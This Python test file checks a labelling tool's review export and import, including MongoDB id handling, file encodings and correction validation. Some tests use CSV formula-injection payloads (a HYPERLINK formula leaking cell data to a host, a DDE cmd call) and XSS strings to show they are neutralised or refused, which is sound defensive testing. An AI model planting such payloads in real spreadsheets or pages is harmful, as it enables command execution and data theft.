"""hybrid.labels.review: review files out, corrections back as manual labels."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from bson import Decimal128
from click.testing import CliRunner
from helpers import env, records

from hybrid import data
from hybrid.cli import main
from hybrid.errors import Exit, LeaseHeld
from hybrid.ingest.ids import id_key
from hybrid.labels.corrections import Refused, correction, write_to_ledger
from hybrid.labels.ledger import FileLedger
from hybrid.labels.review import COLUMNS
from hybrid.labels.review_file import from_cell, read_table, to_cell
from hybrid.mongo.store import Store


def cli(cache_dir, *args: str, environ: dict | None = None):
    return CliRunner().invoke(main, ["--quiet", "--cache-dir", str(cache_dir), *args],
                              env=environ or {"MONGODB_URI": ""})


def fill(path, answers: dict[str, tuple[str, str]]) -> None:
    """What a reviewer does in a spreadsheet: fill `categories` (and maybe `tags`)."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        reader = csv.DictReader(fh)
        rows, columns = list(reader), reader.fieldnames
    key = columns[0]  # "id", or "_id" for MongoDB articles
    for row in rows:
        row["categories"], row["tags"] = answers.get(row[key], ("", ""))
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, columns)
        writer.writeheader()
        writer.writerows(rows)


def test_file_round_trip(sample_model_dir, cache_dir, tmp_path):
    review = tmp_path / "review.csv"
    result = cli(cache_dir, "review", "export", "--model", str(sample_model_dir), "--data",
                 str(data.path("sample_unseen.jsonl")), "--limit", "4", "--out", str(review))
    assert result.exit_code == 0, result.output
    assert review.read_bytes().startswith(b"\xef\xbb\xbf")  # spreadsheets need the BOM
    with review.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 4 and list(rows[0]) == COLUMNS
    confidences = [float(r["confidence"]) for r in rows]
    assert confidences == sorted(confidences) and rows[0]["suggested_categories"]
    first, second, third = rows[0]["id"], rows[1]["id"], rows[2]["id"]
    fill(review, {first: ("DB；人工智能", "redis, 持久化"), second: ("区块链", ""),
                  third: (rows[2]["suggested_categories"], "")})
    fixed = tmp_path / "fixed.jsonl"
    result = cli(cache_dir, "review", "import", str(review), "--model", str(sample_model_dir),
                 "--data", str(data.path("sample_unseen.jsonl")), "--out", str(fixed))
    assert result.exit_code == Exit.PARTIAL and "区块链" in result.output
    out = {r["id"]: r for r in map(json.loads, fixed.read_text(encoding="utf-8").splitlines())}
    assert out[first]["categories"] == ["数据库", "人工智能"]
    assert out[first]["tags"] == ["redis", "持久化"]
    assert out[third]["categories"] == rows[2]["suggested_categories"].split("; ")
    original = {r["id"]: r for r in map(json.loads, data.path("sample_unseen.jsonl").read_text(
        encoding="utf-8").splitlines())}
    assert out[second] == original[second] and out[third]["tags"] == original[third]["tags"]


def test_corrections_in_mongo_are_manual_and_survive_runs(sample_model_dir, mongo_config,
                                                          cache_dir, tmp_path):
    environ = env(mongo_config)
    review = tmp_path / "review.csv"
    with Store(mongo_config) as store:
        store.import_records(records(12))
        assert cli(cache_dir, "run", "--model", str(sample_model_dir),
                   environ=environ).exit_code == 0
        result = cli(cache_dir, "review", "export", "--limit", "5", "--out", str(review),
                     environ=environ)
        assert result.exit_code == 0, result.output
        with review.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.DictReader(fh))
        assert len(rows) == 5 and all(r["scores"] for r in rows)
        lowest = min(d["hybrid"]["confidence"] for d in store.articles.find())
        assert float(rows[0]["confidence"]) == round(lowest, 4)
        assert next(iter(rows[0])) == "_id"  # the _id, with its type (a string: bare)
        ids = [r["_id"] for r in rows[:2]]
        fill(review, {ids[0]: ("编程语言", "rust"), ids[1]: ("移动开发; 前端开发", "")})
        result = cli(cache_dir, "review", "import", str(review), "--model",
                     str(sample_model_dir), environ=environ)
        assert result.exit_code == 0, result.output
        tags_before = store.articles.find_one({"_id": ids[1]})["tags"]
        rerun = cli(cache_dir, "run", "--model", str(sample_model_dir), "--all", "--json",
                    environ=environ)
        assert json.loads(rerun.stdout.splitlines()[-1])["counts"]["skipped_manual"] == 2
        first, second = (store.articles.find_one({"_id": i}) for i in ids)
        manual = {r["_id"]: r["categories"] for r in store.label_records()}
    assert (first["categories"], first["tags"]) == (["编程语言"], ["rust"])
    assert (second["categories"], second["tags"]) == (["移动开发", "前端开发"], tags_before)
    assert first["hybrid"]["source"] == second["hybrid"]["source"] == "manual"
    assert manual == {ids[0]: ["编程语言"], ids[1]: ["移动开发", "前端开发"]}  # next training


def test_export_with_low_confidence_only_takes_articles_under_the_setting(
        sample_model_dir, cache_dir, tmp_path):
    """The setting is read from the environment; the cut sits between two articles'
    different confidences (as written, rounded: two may tie), so the test holds however
    sure the sample model is."""
    def export(path: Path, *flags: str, env: dict[str, str] | None = None) -> list[dict]:
        result = CliRunner().invoke(main, [
            "--quiet", "--cache-dir", str(cache_dir), "review", "export", *flags,
            "--model", str(sample_model_dir), "--data", str(data.path("sample_unseen.jsonl")),
            "--out", str(path)], env={"MONGODB_URI": "", **(env or {})})
        assert result.exit_code == 0, result.output
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]

    everything = sorted(r["confidence"] for r in export(tmp_path / "all.jsonl"))
    steps = [k for k in range(1, len(everything)) if everything[k] > everything[k - 1]]
    k = steps[len(steps) // 2]
    cut = (everything[k - 1] + everything[k]) / 2
    rows = export(tmp_path / "review.jsonl", "--low-confidence",
                  env={"HYBRID_LOW_CONFIDENCE": str(cut)})
    assert [r["confidence"] for r in rows] == everything[:k]
    assert all(r["categories"] == [] for r in rows)
    assert isinstance(rows[0]["suggested_categories"], list)


def test_review_files_carry_the_id_with_its_type(sample_model_dir, mongo_config, cache_dir,
                                                 tmp_path):
    """`_id` 1 and "1" are two articles: each row names its own, in CSV and in JSONL, and a
    correction lands on the article it was made for."""
    environ = env(mongo_config)
    ids = [1, "1", {"n": 1}, Decimal128("1.5")]
    with Store(mongo_config) as store:
        store.articles.insert_many([{**{k: v for k, v in d.items() if k != "id"}, "_id": i}
                                    for d, i in zip(records(4), ids, strict=True)])
        assert cli(cache_dir, "run", "--model", str(sample_model_dir),
                   environ=environ).exit_code == 0
        review, lines = tmp_path / "review.csv", tmp_path / "review.jsonl"
        for path in (review, lines):
            result = cli(cache_dir, "review", "export", "--out", str(path), environ=environ)
            assert result.exit_code == 0, result.output
        with review.open(encoding="utf-8-sig", newline="") as fh:
            cells = sorted(r["_id"] for r in csv.DictReader(fh))
        assert cells == sorted(['1', '"1"', '{"n": 1}', '{"$numberDecimal": "1.5"}'])
        rows = [json.loads(line) for line in lines.read_text(encoding="utf-8").splitlines()]
        assert sorted(map(json.dumps, (r["_id"] for r in rows))) == sorted(
            ['1', '"1"', '{"n": 1}', '{"$numberDecimal": "1.5"}'])

        fill(review, {'"1"': ("编程语言", "rust")})
        result = cli(cache_dir, "review", "import", str(review), "--model",
                     str(sample_model_dir), environ=environ)
        assert result.exit_code == 0, result.output
        with lines.open("w", encoding="utf-8") as fh:
            for row in rows:
                if row["_id"] == {"$numberDecimal": "1.5"}:
                    row["categories"] = ["数据库"]
                fh.write(json.dumps(row, ensure_ascii=False) + "\n")
        result = cli(cache_dir, "review", "import", str(lines), "--model",
                     str(sample_model_dir), environ=environ)
        assert result.exit_code == 0, result.output
        manual = {id_key(d["_id"]): d["categories"]
                  for d in store.articles.find({"hybrid.source": "manual"})}
    assert manual == {'"1"': ["编程语言"], '{"$numberDecimal": "1.5"}': ["数据库"]}


def test_a_review_file_from_before_imports_where_its_id_names_one_article(
        sample_model_dir, mongo_config, cache_dir, tmp_path):
    """Such files have an `id` column of bare text (`str(_id)`)."""
    environ = env(mongo_config)
    with Store(mongo_config) as store:
        store.articles.insert_many([{**{k: v for k, v in d.items() if k != "id"}, "_id": i}
                                    for d, i in zip(records(3), [1, "1", 7], strict=True)])
        old = tmp_path / "old.csv"
        with old.open("w", encoding="utf-8-sig", newline="") as fh:
            writer = csv.DictWriter(fh, COLUMNS)
            writer.writeheader()
            for article_id in ("1", "7"):
                writer.writerow({"id": article_id, "categories": "数据库"})
        result = cli(cache_dir, "review", "import", str(old), "--model",
                     str(sample_model_dir), environ=environ)
        assert result.exit_code == Exit.PARTIAL
        assert "error: article '1': id 1 names 2 articles" in result.stderr
        assert "export it again" in result.stderr
        manual = [d["_id"] for d in store.articles.find({"hybrid.source": "manual"})]
    assert manual == [7]


TAXONOMY = str(data.path("sample_taxonomy.json"))
UNSEEN = data.path("sample_unseen.jsonl")


def import_into(cache_dir, tmp_path, review, *more: str):
    """`review import REVIEW --taxonomy ... --data <a copy of the unseen sample> --out`."""
    labelled, out = tmp_path / "labelled.jsonl", tmp_path / "fixed.jsonl"
    labelled.write_bytes(UNSEEN.read_bytes())
    result = cli(cache_dir, "review", "import", str(review), "--taxonomy", TAXONOMY, "--data",
                 str(labelled), "--out", str(out), *more)
    fixed = ({r["id"]: r for r in map(json.loads, out.read_text(encoding="utf-8").splitlines())}
             if out.exists() else None)
    return result, fixed


def test_import_never_writes_over_its_input(cache_dir, tmp_path):
    labelled = tmp_path / "lab.jsonl"
    labelled.write_bytes(UNSEEN.read_bytes())
    (tmp_path / "link.jsonl").symlink_to(labelled)
    review = tmp_path / "c.csv"
    review.write_text("id,categories,tags\nu001,数据库,redis\n", encoding="utf-8")
    for out in (labelled, tmp_path / "link.jsonl", review):
        result = cli(cache_dir, "review", "import", str(review), "--taxonomy", TAXONOMY,
                     "--data", str(labelled), "--out", str(out))
        assert result.exit_code == Exit.USAGE, result.output
        assert f"the output {out} is the input" in result.output
    result = cli(cache_dir, "review", "import", str(review), "--taxonomy", TAXONOMY,
                 "--labels", str(review))
    assert result.exit_code == Exit.USAGE and "is the input" in result.output
    assert labelled.read_bytes() == UNSEEN.read_bytes()
    assert review.read_text(encoding="utf-8") == "id,categories,tags\nu001,数据库,redis\n"


def test_export_never_writes_over_its_input(sample_model_dir, cache_dir, tmp_path):
    articles = tmp_path / "a.jsonl"
    articles.write_bytes(UNSEEN.read_bytes())
    for out in (articles, sample_model_dir / "review.csv"):
        result = cli(cache_dir, "review", "export", "--model", str(sample_model_dir), "--data",
                     str(articles), "--out", str(out))
        assert result.exit_code == Exit.USAGE and "the input" in result.output, result.output
    assert articles.read_bytes() == UNSEEN.read_bytes()
    assert not (sample_model_dir / "review.csv").exists()


def test_import_stores_no_label_another_path_would_refuse(cache_dir, tmp_path):
    """At most max_categories categories; tags cleaned as every tag path cleans them."""
    review = tmp_path / "c.jsonl"
    six = "数据库; 人工智能; 前端开发; 后端开发; 移动开发; 编程语言"
    rows = [{"id": "u001", "categories": six},
            *({"id": f"u00{i}", "categories": "数据库", "tags": f"redis; {tag}"}
              for i, tag in enumerate(["<script>alert(1)</script>", "javascript:alert(1)",
                                       "=cmd|calc"], 2)),
            {"id": "u005", "categories": ["数据库", "DB"], "tags": ["Redis", " redis ", "缓存"]}]
    review.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows),
                      encoding="utf-8")
    result, fixed = import_into(cache_dir, tmp_path, review)
    assert result.exit_code == Exit.PARTIAL
    assert "1 corrections written" in result.stdout and "(4 failed)" in result.stdout
    assert ("article 'u001': line 1, field 'categories': 6 categories" in result.stderr
            and "at most 3" in result.stderr)
    for i, tag in enumerate(["<script>", "javascript:alert(1)", "=cmd|calc"], 2):
        assert f"article 'u00{i}': line {i}, field 'tags': '{tag}" in result.stderr
    original = {r["id"]: r for r in map(json.loads, UNSEEN.read_text("utf-8").splitlines())}
    assert all(fixed[k] == original[k] for k in ("u001", "u002", "u003", "u004"))
    assert (fixed["u005"]["categories"], fixed["u005"]["tags"]) == (["数据库"], ["Redis", "缓存"])
    ledger = tmp_path / "labels.jsonl"
    result = cli(cache_dir, "review", "import", str(review), "--taxonomy", TAXONOMY,
                 "--labels", str(ledger))
    assert result.exit_code == Exit.PARTIAL
    assert [json.loads(line)["id"] for line in ledger.read_text("utf-8").splitlines()] == [
        "u005"]


def test_import_counts_what_it_wrote(cache_dir, tmp_path):
    review = tmp_path / "c.csv"
    review.write_text("id,categories,tags\nu001,数据库,\nu002,数据库,\nu003,区块链,\n",
                      encoding="utf-8")
    result, _ = import_into(cache_dir, tmp_path, review)
    assert "2 corrections written as manual labels" in result.stdout
    assert "(1 failed)" in result.stdout
    review.write_text("id,categories,tags\nu003,区块链,\nnope,数据库,\n", encoding="utf-8")
    result, _ = import_into(cache_dir, tmp_path, review)
    assert "0 corrections written as manual labels" in result.stdout
    assert "(2 failed)" in result.stdout and "'nope': not in" in result.stderr


@pytest.mark.parametrize("content, message", [
    ('{"id": "u001", "categories": ["数据库"]}\n["u002", "数据库"]\n',
     "article 'line 2': not a JSON object but a list"),
    ('{"id": "u001", "categories": ["数据库"]}\n\n{"id": "u002", "categ\n',
     "article 'line 3': not JSON: Unterminated string"),
    ("id,title,categories,tags\nu001,a,数据库,\nu002," + "x" * 140_000 + ",数据库,\n",
     "article 'row 3': field 'title': 140,000 characters"),
])
def test_a_row_that_cannot_be_read_is_named_and_the_others_go_on(cache_dir, tmp_path, content,
                                                                 message):
    review = tmp_path / ("c.csv" if content.startswith("id,") else "c.jsonl")
    review.write_text(content, encoding="utf-8")
    result, fixed = import_into(cache_dir, tmp_path, review)
    assert result.exit_code == Exit.PARTIAL and "Traceback" not in result.output
    assert message in result.stderr, result.stderr
    assert "1 corrections written" in result.stdout and fixed["u001"]["categories"] == ["数据库"]


@pytest.mark.parametrize("encoding, delimiter", [("utf-16", ","), ("utf-8", ";"),
                                                 ("utf-8-sig", "\t"), ("utf-32", ";")])
def test_spreadsheets_of_other_locales_are_read(cache_dir, tmp_path, encoding, delimiter):
    review = tmp_path / "c.csv"
    with review.open("w", encoding=encoding, newline="") as fh:
        csv.writer(fh, delimiter=delimiter).writerows([["id", "categories", "tags"],
                                                       ["u001", "DB", "redis; 缓存"]])
    result, fixed = import_into(cache_dir, tmp_path, review)
    assert result.exit_code == 0 and "1 corrections written" in result.stdout, result.output
    assert (fixed["u001"]["categories"], fixed["u001"]["tags"]) == (["数据库"], ["redis", "缓存"])


def test_a_file_that_is_no_review_file_is_refused_by_name(cache_dir, tmp_path):
    review = tmp_path / "c.csv"
    review.write_bytes("id,categories,tags\nu001,数据库,缓存\n".encode("gbk"))
    result, fixed = import_into(cache_dir, tmp_path, review)
    assert result.exit_code == Exit.USAGE and fixed is None
    assert f"{review}: not UTF-8 text" in result.output and "GBK" in result.output
    review.write_text("id|categories\nu001|数据库\n", encoding="utf-8")
    result, fixed = import_into(cache_dir, tmp_path, review)
    assert result.exit_code == Exit.USAGE and fixed is None
    assert "has no 'id' (or '_id') and 'categories' columns" in result.output


def test_duplicate_rows_are_refused_unless_they_agree(cache_dir, tmp_path):
    review = tmp_path / "c.csv"
    review.write_text("id,categories,tags\nu001,数据库,\nu001,人工智能,\nu002,数据库,\n"
                      "u002,DB,\n", encoding="utf-8")
    result, fixed = import_into(cache_dir, tmp_path, review)
    assert result.exit_code == Exit.PARTIAL
    assert "article 'u001': row 2 and row 3 correct it differently" in result.stderr
    original = {r["id"]: r for r in map(json.loads, UNSEEN.read_text("utf-8").splitlines())}
    assert fixed["u001"] == original["u001"] and fixed["u002"]["categories"] == ["数据库"]
    assert "1 corrections written" in result.stdout


HOSTILE = ['=HYPERLINK("http://x/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
           "\tTab\r", "'=quoted already"]  # one title for each sample article


def test_export_cells_never_run_as_formulas_and_come_back_exact(sample_model_dir, cache_dir,
                                                                tmp_path):
    source = [json.loads(line) for line in UNSEEN.read_text("utf-8").splitlines()]
    articles = [{**r, "id": title[:8], "title": title} for r, title in zip(source, HOSTILE,
                                                                              strict=True)]
    infile, review = tmp_path / "a.jsonl", tmp_path / "review.csv"
    infile.write_text("".join(json.dumps(a, ensure_ascii=False) + "\n" for a in articles),
                      encoding="utf-8")
    result = cli(cache_dir, "review", "export", "--model", str(sample_model_dir), "--data",
                 str(infile), "--out", str(review))
    assert result.exit_code == 0, result.output
    with review.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    rows = {row["id"]: row for _, row in read_table(review, ("id", "categories"))}
    assert {k: r["title"] for k, r in rows.items()} == {a["id"]: a["title"] for a in articles}
    fill(review, {to_cell("-2+3"): ("数据库", "-O2 flag; redis"),
                  to_cell("'=quoted"): ("数据库", "'缓存"), to_cell("=HYPERLI"): ("前端开发", "")})
    fixed = tmp_path / "fixed.jsonl"
    result = cli(cache_dir, "review", "import", str(review), "--model", str(sample_model_dir),
                 "--data", str(infile), "--out", str(fixed))
    assert result.exit_code == Exit.PARTIAL, result.output  # '-O2 flag' and "'缓存" are no tags
    assert result.stderr.count("field 'tags'") == 2 and "'-O2 flag'" in result.stderr
    out = {r["id"]: r for r in map(json.loads, fixed.read_text(encoding="utf-8").splitlines())}
    assert out["=HYPERLI"]["categories"] == ["前端开发"]


def test_cells_round_trip_whatever_they_begin_with():
    for text in ["", "'", "''", "=1", "'=1", "''=1", "-1", "plain", "'plain", "\t", "@@"]:
        assert from_cell(to_cell(text)) == text
        assert not to_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("categories, tags, field, said", [
    (["数据库", "人工智能", "编程语言", "前端开发"], [], "categories", "at most 3"),
    (["区块链"], [], "categories", "not in the taxonomy: 区块链"),
    (["DB"], ["redis", "<script>alert(1)</script>"], "tags", "<script>"),
    (["DB"], ["=cmd|calc"], "tags", "=cmd|calc"),
])
def test_a_persons_labels_are_checked_once_for_every_path(sample_taxonomy, categories, tags,
                                                          field, said):
    """`correction` is what `review import` and `hybrid serve`'s feedback both call."""
    with pytest.raises(Refused, match=f"field '{field}'.*{said}") as caught:
        correction("a1", categories, tags, sample_taxonomy, max_categories=3)
    assert caught.value.field == field


def test_labels_go_into_a_ledger_under_its_lock_as_every_writers_do(sample_taxonomy, tmp_path):
    ledger = FileLedger(tmp_path / "labels.jsonl")
    fix = correction("a1", ["DB"], [" Redis ", "redis", "ＳＱＬ"], sample_taxonomy, 3)
    assert (fix.categories, fix.tags) == (["数据库"], ["Redis", "SQL"])
    with FileLedger(ledger.path).lock(), pytest.raises(LeaseHeld, match="labelling with"):
        write_to_ledger(ledger, [fix], wait=0.2)  # a bootstrap holds it: nothing written
    assert ledger.labels() == {}
    write_to_ledger(ledger, [fix], wait=0.2)
    stored = ledger.labels()["a1"]
    assert (stored.categories, stored.tags, stored.source) == (["数据库"], ["Redis", "SQL"],
                                                               "manual")
